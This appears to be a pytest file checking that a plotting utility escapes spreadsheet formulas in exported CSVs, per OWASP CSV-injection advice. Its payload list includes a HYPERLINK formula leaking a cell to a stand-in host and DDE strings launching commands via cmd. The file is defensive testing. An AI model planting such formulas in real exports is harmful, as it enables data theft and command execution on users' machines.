"""Figure CSVs open safely in a spreadsheet: corpus text never runs as a formula.

The rule is OWASP's advice on CSV injection: a cell that begins with "=", "+", "-", "@", a tab
or a carriage return is read as a formula by spreadsheet programs, so it is written with a
leading apostrophe; numbers stay numbers.
"""

from __future__ import annotations

import csv

import matplotlib.pyplot as plt
import pandas as pd
import pytest

from corpusutils.plots import save_figure, spreadsheet_safe

pytestmark = pytest.mark.hostile

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_formula_cells_from_corpus_text_are_written_as_text(tmp_path):
    data = pd.DataFrame(
        {
            "agency": PAYLOADS + ["EFE", "- quoted", "-0.25", "+3"],
            "compound": [-0.5, 0.25, -1.0, 0.0, 1.5, 0.1, -0.3, 0.0, 0.4],
        }
    )
    figure, ax = plt.subplots()
    _, path = save_figure(ax, data, "payloads", tmp_path)
    plt.close(figure)
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["agency", "compound"]
    written = [row[0] for row in rows[1:]]
    assert written[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    # Plain text and numbers written as text are left as they are.
    assert written[len(PAYLOADS) :] == ["EFE", "'- quoted", "-0.25", "+3"]
    # Numbers stay numbers, negative ones included.
    assert [row[1] for row in rows[1:]] == [
        "-0.5", "0.25", "-1.0", "0.0", "1.5", "0.1", "-0.3", "0.0", "0.4"
    ]
    assert pd.read_csv(path)["compound"].dtype == "float64"


def test_group_labels_in_the_index_and_in_column_names_are_covered():
    counts = pd.DataFrame({"=cmd": [1, -2]}, index=pd.Index(["@AP", "AFP"], name="agency"))
    safe = spreadsheet_safe(counts)
    assert safe.columns.tolist() == ["agency", "'=cmd"]
    assert safe["agency"].tolist() == ["'@AP", "AFP"]
    assert safe["'=cmd"].tolist() == [1, -2]
